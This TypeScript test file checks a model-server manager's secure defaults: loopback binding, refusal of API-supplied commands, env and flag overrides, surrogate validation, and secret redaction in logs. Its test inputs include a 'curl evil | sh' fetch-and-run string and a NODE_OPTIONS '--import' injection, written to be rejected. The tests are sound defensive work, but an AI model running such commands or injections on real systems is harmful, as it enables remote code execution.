/**
 * Secure by default (docs/security.md), the parts that need no child: loopback unless the admin
 * API needs a credential or the file opts in; specs from the REST API held to the config's
 * [security] (command, env, flag overrides: 403 naming the setting), the manager's own flags and
 * environment names refused in every spec and never replaceable in the argv, lone surrogates
 * refused with the field named, secrets redacted in spawn lines. Units, then the manager's app in
 * this process (test/helpers/manager-app.ts). Real managers: test/e2e/security-defaults.test.ts.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import { DEFAULTS, resolveConfig, type SecurityConfig } from '../../src/config/config.js';
import { exposureWarning, isLoopbackHost } from '../../src/config/exposure.js';
import { specRefusal } from '../../src/config/spec-policy.js';
import { ConfigError } from '../../src/config/validate.js';
import { buildChildCommand } from '../../src/runtimes/runtimes.js';
import { redactText, spawnLine } from '../../src/runtimes/redact.js';
import { managerApp } from '../helpers/manager-app.js';

const security: SecurityConfig = { ...DEFAULTS.security, api_commands: [], api_env: [] };
const open: SecurityConfig = { allow_remote_admin_without_auth: false, api_commands: ['/opt/tei'], api_env: ['OMP_NUM_THREADS', 'NODE_OPTIONS'], api_flag_overrides: true };
const configError = (re: RegExp) => (err: unknown) => err instanceof ConfigError && re.test(err.message);
const HASH = 'a'.repeat(64);

describe('listen address', () => {
  test('the default is loopback', () => {
    assert.equal(resolveConfig({}, {}).listen_host, '127.0.0.1');
  });

  test('a network address with an admin API open to anyone needs the opt-in, which warns', () => {
    for (const host of ['0.0.0.0', '::', '10.1.2.3', 'box.example']) {
      assert.throws(() => resolveConfig({ listen_host: host }, {}), configError(/security\.allow_remote_admin_without_auth/), host);
    }
    assert.throws(() => resolveConfig({}, { TEIPLEX_LISTEN_HOST: '0.0.0.0' }), configError(/not a loopback address/));
    // Keys without admin_requires_key leave the admin API open: still refused.
    assert.throws(() => resolveConfig({ listen_host: '0.0.0.0', auth: { api_keys: [{ name: 'k', key_sha256: HASH }], admin_requires_key: false } }, {}), configError(/allow_remote_admin_without_auth/));
    const keyed = resolveConfig({ listen_host: '0.0.0.0', auth: { api_keys: [{ name: 'k', key_sha256: HASH, admin: true }] } }, {});
    assert.equal(exposureWarning(keyed), undefined);
    const mtls = resolveConfig({ listen_host: '0.0.0.0', auth: { mtls: { server_cert: 'a', server_key: 'b', client_ca: 'c' } } }, {});
    assert.equal(exposureWarning(mtls), undefined);
    const optedIn = resolveConfig({ listen_host: '0.0.0.0', security: { allow_remote_admin_without_auth: true } }, {});
    assert.match(exposureWarning(optedIn) ?? '', /needs no credential/);
    assert.equal(exposureWarning(resolveConfig({ listen_host: '127.0.0.2' }, {})), undefined);
  });

  test('loopback addresses', () => {
    for (const h of ['127.0.0.1', '127.9.9.9', 'localhost', '::1', '[::1]', '0:0:0:0:0:0:0:1', '::ffff:127.0.0.1']) assert.ok(isLoopbackHost(h), h);
    for (const h of ['0.0.0.0', '::', '', '128.0.0.1', '::ffff:10.0.0.1', 'localhost.evil.example']) assert.ok(!isLoopbackHost(h), h);
  });
});

describe('spec policy', () => {
  const api = (spec: object, s = security) => specRefusal({ ...spec } as never, 'api', s);

  test('from the API: command, env and flag overrides refused by default, naming the setting', () => {
    assert.deepEqual(
      [api({ runtime: 'command', command: '/bin/sh' }), api({ env: { NODE_OPTIONS: '--import=/tmp/x.mjs' } }), api({ max_batch_tokens: 8, extra_args: ['--max-batch-tokens=99'] }), api({ extra_args: ['--json-output'] })].map((r) => [
        r?.kind,
        r?.setting,
        r?.field,
      ]),
      [
        ['forbidden', 'security.api_commands', 'command'],
        ['forbidden', 'security.api_env', 'env.NODE_OPTIONS'],
        ['forbidden', 'security.api_flag_overrides', 'extra_args[0]'],
        ['forbidden', 'security.api_flag_overrides', 'extra_args[0]'],
      ],
    );
    // Flags that replace nothing are fine; so are their values.
    assert.equal(api({ extra_args: ['--auto-truncate', '--served-model-name', 'x', '--max-batch-tokens', '512', '--threads=-1'] }), undefined);
    // The config opts in.
    assert.equal(api({ runtime: 'command', command: '/opt/tei', env: { OMP_NUM_THREADS: '2' }, max_batch_tokens: 8, extra_args: ['--max-batch-tokens=99'] }, open), undefined);
    assert.equal(api({ runtime: 'command', command: '/opt/tei2' }, open)?.setting, 'security.api_commands');
  });

  test("the manager's own flags and environment names: never, whatever the settings", () => {
    for (const extra of [['--port', '1'], ['--port=1'], ['-p', '1'], ['--hostname', '0.0.0.0'], ['--model-id', 'x'], ['--api-key', 'k'], ['--prometheus-port', '9000']]) {
      const r = api({ extra_args: ['--auto-truncate', ...extra] }, open);
      assert.equal(r?.kind, 'invalid', extra.join(' '));
      assert.equal(r?.field, 'extra_args[1]');
      assert.equal(specRefusal({ extra_args: extra }, 'config', open)?.kind, 'invalid', `config: ${extra.join(' ')}`);
    }
    for (const name of ['CUDA_VISIBLE_DEVICES', 'PORT', 'HOSTNAME', 'MODEL_ID', 'API_KEY']) {
      assert.equal(api({ env: { [name]: '1' } }, { ...open, api_env: [name] })?.kind, 'invalid', name);
      assert.equal(specRefusal({ env: { [name]: '1' } }, 'config', open)?.field, `env.${name}`);
    }
  });

  test('from the API: only long flags and their values (no short options, no positional script)', () => {
    for (const extra of [['-c', 'curl evil | sh'], ['evil'], ['--'], ['--served-model-name', '-c'], ['--a=b', 'c']]) {
      assert.equal(api({ extra_args: extra }, open)?.kind, 'invalid', JSON.stringify(extra));
    }
  });

  test('a lone surrogate anywhere: invalid, naming the field', () => {
    assert.equal(api({ name: 'a', model_id: 'org/\ud800' })?.field, 'model_id');
    assert.equal(api({ aliases: ['ok', 'x\udfff'] })?.field, 'aliases[1]');
    assert.equal(api({ env: { OMP_NUM_THREADS: '\ud83d' } }, open)?.field, 'env.OMP_NUM_THREADS');
    assert.equal(api({ extra_args: ['--served-model-name', '\udc00'] })?.field, 'extra_args[1]');
    assert.equal(api({ model_id: 'org/\ud83d\ude00' }), undefined, 'a surrogate pair is a character');
    // Any string field, any lone surrogate, anywhere in the text: the field is named.
    fc.assert(
      fc.property(fc.constantFrom('model_id', 'revision', 'aliases[0]', 'extra_args[1]', 'env.RUST_LOG', 'command'), fc.integer({ min: 0xd800, max: 0xdfff }), fc.string(), fc.nat(), (field, unit, text, at) => {
        const cut = at % (text.length + 1);
        const bad = text.slice(0, cut) + String.fromCharCode(unit) + text.slice(cut);
        const spec = { model_id: 'm', revision: 'main', aliases: ['a'], extra_args: ['--served-model-name', 'x'], env: { RUST_LOG: 'info' }, runtime: 'command', command: '/opt/tei' };
        const [key, index] = field.includes('.') ? field.split('.') : field.replace(']', '').split('[');
        const target = spec as Record<string, any>;
        if (index === undefined) target[key] = bad;
        else if (Array.isArray(target[key])) target[key][Number(index)] = bad;
        else target[key][index] = bad;
        const r = specRefusal(spec as never, 'api', { ...open, api_env: ['RUST_LOG'] });
        return r?.kind === 'invalid' && r.field === field;
      }),
      { numRuns: 300, seed: 7 },
    );
  });

  test('the config file: specs with the manager flags or names refused; api_commands absolute', () => {
    assert.throws(() => resolveConfig({ instances: [{ name: 'a', model_id: 'm', extra_args: ['--hostname', '0.0.0.0'] }] }, {}), configError(/instances\[0\]\.extra_args\[0\]: '--hostname'/));
    assert.throws(() => resolveConfig({ models: [{ model_id: 'm', env: { CUDA_VISIBLE_DEVICES: '0' } }] }, {}), configError(/models\[0\]\.env\.CUDA_VISIBLE_DEVICES/));
    assert.throws(() => resolveConfig({ security: { api_commands: ['tei'] } }, {}), configError(/security\.api_commands\[0\]: 'tei' is not an absolute path/));
    assert.throws(() => resolveConfig({ security: { api_env: ['CUDA_VISIBLE_DEVICES'] } }, {}), configError(/security\.api_env\[0\]/));
    // The file is trusted otherwise: a command, env and overrides of its own.
    const c = resolveConfig({ instances: [{ name: 'a', model_id: 'm', runtime: 'command', command: 'x', env: { NODE_OPTIONS: '' }, max_batch_tokens: 8, extra_args: ['-c', 'y'] }] }, {});
    assert.equal(c.instances.length, 1);
  });
});

describe('child command line and environment', () => {
  const ctx = (spec: object, managerEnv: NodeJS.ProcessEnv = {}) => ({ spec: { name: 'a', model_id: 'org/m', ...spec }, port: 8081, gpuIds: [1], managerEnv });

  test("extra_args never replace the manager's own flags, and never come first", () => {
    const evil = ['-c', 'curl evil | sh', '--model-id', 'x', '--port=1', '--hostname', '0.0.0.0', '-p', '2', '--json-output'];
    const cmd = buildChildCommand('command', ctx({ command: '/bin/sh', extra_args: evil }), { teiBinaryPath: '/opt/tei' });
    assert.deepEqual(cmd.args.slice(0, 6), ['--model-id', 'org/m', '--port', '8081', '--hostname', '127.0.0.1']);
    assert.equal(cmd.args.filter((a) => a.startsWith('--port') || a.startsWith('--hostname') || a === '-p').length, 2);
    assert.ok(!cmd.args.includes('0.0.0.0') && !cmd.args.includes('x'));
  });

  test("the spec's env cannot move the GPU placement or set the manager's flags", () => {
    const cmd = buildChildCommand('router', ctx({ env: { CUDA_VISIBLE_DEVICES: '0,1,2,3', API_KEY: 'k', PORT: '1', OMP_NUM_THREADS: '2' } }), { teiBinaryPath: '/opt/tei' });
    assert.equal(cmd.env.CUDA_VISIBLE_DEVICES, '1');
    assert.equal(cmd.env.API_KEY, undefined);
    assert.equal(cmd.env.PORT, undefined);
    assert.equal(cmd.env.OMP_NUM_THREADS, '2');
  });

  test("the manager's HF_* reach a command child only when its spec asks", () => {
    const env = { HF_TOKEN: 'hf_secret', HF_HOME: '/hf', HUGGING_FACE_HUB_TOKEN: 'hf_old', PATH: '/bin' };
    const plain = buildChildCommand('command', ctx({ command: '/opt/x' }, env), { teiBinaryPath: '/opt/tei' }).env;
    assert.deepEqual([plain.HF_TOKEN, plain.HF_HOME, plain.HUGGING_FACE_HUB_TOKEN, plain.PATH], [undefined, undefined, undefined, '/bin']);
    const asked = buildChildCommand('command', ctx({ command: '/opt/x', inherit_hf_env: true }, env), { teiBinaryPath: '/opt/tei' }).env;
    assert.deepEqual([asked.HF_TOKEN, asked.HUGGING_FACE_HUB_TOKEN], ['hf_secret', 'hf_old']);
    for (const kind of ['router', 'tei'] as const) assert.equal(buildChildCommand(kind, ctx({}, env), { teiBinaryPath: '/opt/tei' }).env.HF_TOKEN, 'hf_secret', kind);
  });

  test('spawn lines and free text: secret flag values and env values redacted', () => {
    const cmd = buildChildCommand('tei', ctx({ extra_args: ['--hf-token', 'hf_abc', '--hf-api-token=hf_def', '--max-batch-requests', '4'], env: { MY_API_KEY: 'k1', AWS_SECRET_ACCESS_KEY: 'k2', OMP_NUM_THREADS: '2' } }), { teiBinaryPath: '/opt/tei' });
    const line = cmd.logLine;
    for (const secret of ['hf_abc', 'hf_def', 'k1', 'k2']) assert.ok(!line.includes(secret), `${secret} in ${line}`);
    assert.match(line, /--hf-token \*\*\* --hf-api-token=\*\*\* --max-batch-requests 4/);
    assert.match(line, /MY_API_KEY=\*\*\* AWS_SECRET_ACCESS_KEY=\*\*\* OMP_NUM_THREADS=2/);
    assert.equal(spawnLine({ command: 'x', args: ['--api-key', 'sk'] }), 'spawn: x --api-key ***');
    assert.equal(redactText('spawn failed: /opt/tei --api-key sk-1 --max-batch-tokens 8 HF_TOKEN=hf_x token budget=3'), 'spawn failed: /opt/tei --api-key *** --max-batch-tokens 8 HF_TOKEN=*** token budget=3');
  });
});

describe("the manager's app", () => {
  test('defaults: 403 naming the setting for command, env and flag overrides; 400 for manager flags and lone surrogates; nothing saved', async () => {
    const m = await managerApp();
    try {
      const post = (body: object) => m.api('POST', '/instances?start=false', { name: 'x', model_id: 'org/m', ...body });
      const forbidden: Array<[object, RegExp]> = [
        [{ runtime: 'command', command: '/opt/printer' }, /security\.api_commands/],
        [{ env: { NODE_OPTIONS: '--import=/tmp/evil.mjs' } }, /security\.api_env/],
        [{ max_batch_tokens: 512, extra_args: ['--max-batch-tokens', '99999'] }, /security\.api_flag_overrides/],
      ];
      for (const [body, re] of forbidden) {
        const r = await post(body);
        assert.equal(r.status, 403, JSON.stringify(r.body));
        assert.equal(r.body.code, 'FORBIDDEN_SETTING');
        assert.match(r.body.error, re);
      }
      const invalid: Array<[object, RegExp]> = [
        [{ extra_args: ['--hostname', '0.0.0.0'] }, /extra_args\[0\]: '--hostname'/],
        [{ extra_args: ['-c', 'x'] }, /extra_args\[0\]/],
        [{ model_id: 'org/\ud800m' }, /model_id: a lone UTF-16 surrogate/],
        [{ aliases: ['\udc00'] }, /aliases\[0\]: a lone/],
      ];
      for (const [body, re] of invalid) {
        const r = await post(body);
        assert.equal(r.status, 400, JSON.stringify(r.body));
        assert.equal(r.body.code, 'BAD_REQUEST');
        assert.match(r.body.error, re);
      }
      const model = await m.api('POST', '/models', { model_id: 'org/m2', runtime: 'command', command: '/opt/printer' });
      assert.equal(model.status, 403);
      assert.equal(model.body.code, 'FORBIDDEN_SETTING');
      assert.match(model.body.error, /security\.api_commands/);
      const surrogate = await m.api('POST', '/models', { model_id: 'org/m3', env: {}, aliases: ['ok', 'bad\ud800'] });
      assert.equal(surrogate.status, 400);
      assert.equal(surrogate.body.code, 'BAD_REQUEST');
      assert.match(surrogate.body.error, /aliases\[1\]/);
      assert.deepEqual((await m.api('GET', '/instances')).body, []);
      assert.deepEqual((await m.api('GET', '/models')).body, []);
      // A plain spec still works.
      assert.equal((await post({ extra_args: ['--auto-truncate'] })).status, 201);
    } finally {
      await m.close();
    }
  });
});
